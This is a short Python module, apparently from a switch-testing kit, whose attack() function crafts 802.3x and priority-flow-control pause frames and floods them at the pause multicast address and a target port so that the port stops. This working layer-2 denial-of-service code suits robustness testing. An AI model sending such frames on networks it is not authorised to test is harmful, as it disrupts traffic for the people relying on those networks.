# SPDX-License-Identifier: Apache-2.0
"""Pause frames (802.3x, priority flow control) stop the switch's port."""
from kit import *

FAMILIES = (4,)


def attack(pot, out):
    for to in (bytes.fromhex("0180c2000001"), out.mac):
        for opcode in (b"\0\1\xff\xff", b"\1\1\0\xff" + b"\xff" * 16):
            pot.send(*[(to + pot.mac + b"\x88\x08" + opcode).ljust(60, b"\0")] * 20)
